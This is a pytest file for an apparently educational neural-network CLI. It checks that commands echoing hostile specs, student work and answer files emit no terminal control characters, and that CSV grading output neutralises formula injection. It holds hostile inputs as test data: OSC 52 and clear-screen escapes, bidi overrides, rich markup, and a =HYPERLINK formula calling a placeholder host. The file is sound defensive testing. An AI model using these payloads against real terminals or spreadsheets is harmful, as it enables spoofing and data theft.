"""Terminal output carries no control character from a file.

A hostile spec (tests/hostile_payloads.py: OSC 52, CSI 2J, OSC 0, 8-bit
CSI, CR, U+202E in its labels and name; rich markup like ``[/bold]`` and
``[link=…]``), a student's work and an answers file holding the same: every
command that echoes them writes only printable text — checked on the raw
output, with and without colour (with colour, the only ESC allowed is the
SGR colour code rich writes itself) — and never a traceback.
"""
import csv
import io
import re
import shutil

import pytest

import hostile_payloads as hp
from inproc import run

TARGET = "0,1,0,0,1"
#: rich's own colour codes (SGR): the only ESC sequence allowed when colour is forced
SGR = re.compile("\x1b\\[[0-9;]*m")
COLOUR = {"FORCE_COLOR": "1", "COLUMNS": "100"}


def _clean(r, colour=False):
    assert "Traceback" not in r.stderr, r.stderr
    text = r.stdout + r.stderr
    if colour:
        text = SGR.sub("", text)
    bad = sorted({repr(c) for c in hp.FORBIDDEN.findall(text)})
    assert not bad, bad


@pytest.fixture
def spec(tmp_path):
    return hp.write_spec(tmp_path / "hostile.json")


@pytest.mark.parametrize("colour", [False, True], ids=["plain", "colour"])
@pytest.mark.parametrize("fmt", ["text", "rich", "markdown", "jsonl"])
@pytest.mark.parametrize("notation", ["net-out", "delta"])
def test_trace_every_format(spec, fmt, notation, colour):
    r = run("trace", spec, "--input", "1,0", "--target", TARGET, "--notation", notation, "--format", fmt,
            env=COLOUR if colour else None)
    assert r.returncode == 0, r.stderr
    _clean(r, colour)
    if notation == "net-out" and fmt != "jsonl":
        assert "[/bold]" in r.stdout or "\\[/bold\\]" in r.stdout   # the label is shown, as text


@pytest.mark.parametrize("colour", [False, True], ids=["plain", "colour"])
@pytest.mark.parametrize("args", [[], ["--notation", "net-out"],
                                  ["--dot", "--input", "1,0", "--target", TARGET, "--notation", "net-out"],
                                  ["--dot", "--input", "1,0", "--target", TARGET, "--neuron", "2:3"]],
                         ids=["tables", "tables-net-out", "dot", "dot-neuron"])
def test_show(spec, args, colour):
    r = run("show", spec, *args, env=COLOUR if colour else None)
    assert r.returncode == 0, r.stderr
    _clean(r, colour)
    if not args:
        assert "[/bold]" in r.stdout and "[blink]x[/blink]" in r.stdout     # markup drawn as text


def test_show_tables_svg_html_do_not_raise_markup_errors(spec, tmp_path):
    for flag, name in (("--svg", "t.svg"), ("--html", "t.html")):
        r = run("show", spec, "--tables", flag, tmp_path / name)
        assert r.returncode == 0, r.stderr
        assert "[/bold]" in (tmp_path / name).read_text(encoding="utf-8").replace("&#160;", " ")


@pytest.mark.parametrize("colour", [False, True], ids=["plain", "colour"])
def test_step_no_interactive(spec, colour):
    r = run("step", spec, "--input", "1,0", "--target", TARGET, "--notation", "net-out", "--no-interactive",
            env=COLOUR if colour else None)
    assert r.returncode == 0, r.stderr
    _clean(r, colour)


def test_mark_echoes_the_students_work_printable(spec, tmp_path):
    work = tmp_path / "work.txt"
    work.write_text(f"net_{hp.TERMINAL[0]} = 0.5\nout_\u202eevil = 0.3\n{hp.ESC}[2J = 1\n", encoding="utf-8")
    r = run("mark", spec, work, "--input", "1,0", "--target", TARGET, "--notation", "net-out")
    _clean(r)
    assert "\\x1b]52" in r.stdout and "\\u202e" in r.stdout        # echoed, escaped


def test_quiz_echoes_an_answers_file_printable(spec, tmp_path):
    answers = tmp_path / "answers.txt"
    answers.write_text(f"0.5\n{hp.TERMINAL[0]}\n\u202e1\n\u009b2J\n", encoding="utf-8")
    r = run("quiz", spec, "--input", "1,0", "--target", TARGET, "--notation", "net-out", "--seed", "1",
            "--questions", "4", "--answers", answers)
    _clean(r)
    assert "\\x1b]52" in r.stdout


def _lesson_pack(tmp_path):
    base = tmp_path / "packs"
    dst = base / "one-neuron-chain"
    shutil.copytree(hp.ROOT / "walkthroughs" / "one-neuron-chain", dst)
    meta = (dst / "walkthrough.toml").read_text(encoding="utf-8")
    title = "[/bold][blink]x[/blink] \\u001b]0;pwn\\u0007 \\u009b2J \\u202eevil"
    meta = re.sub(r"^title = .*$", lambda m: f'title = "{title}"', meta, count=1, flags=re.M)
    (dst / "walkthrough.toml").write_text(meta, encoding="utf-8")
    return {"NEURONET_WALKTHROUGHS": str(base)}


def test_walkthrough_list_and_formats(tmp_path):
    env = _lesson_pack(tmp_path)
    r = run("walkthrough", env=env)
    assert r.returncode == 0, r.stderr
    _clean(r)
    assert "[/bold][blink]x[/blink]" in r.stdout
    for fmt in ("text", "rich", "markdown", "json", "jsonl"):
        r = run("walkthrough", "one-neuron-chain", "--format", fmt, env=env)
        assert r.returncode == 0, (fmt, r.stderr)
        _clean(r)
        if fmt == "json":
            import json
            assert json.loads(r.stdout)["title"].startswith("[/bold][blink]x[/blink] \x1b]0;pwn")   # the same data
    r = run("walkthrough", "one-neuron-chain", "--format", "rich", env={**env, **COLOUR})
    assert r.returncode == 0, r.stderr
    _clean(r, colour=True)
    assert "[blink]x[/blink]" in SGR.sub("", r.stdout)


def test_quiz_grading_csv_never_starts_a_formula(spec, tmp_path):
    """OWASP CSV-injection rule: a text cell beginning = + - @ is written behind a '."""
    answers = tmp_path / '=HYPERLINK("http:__x.example_?"&A1,"click").txt'
    answers.write_text("0.5\n", encoding="utf-8")
    other = tmp_path / "@SUM(1+1).txt"
    other.write_text("0.5\n", encoding="utf-8")
    r = run("quiz", spec, "--input", "1,0", "--target", TARGET, "--seed", "1", "--answers", answers, other,
            "--csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout)))
    students = [row[0] for row in rows[1:]]
    assert students == ["'" + answers.stem, "'" + other.stem]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

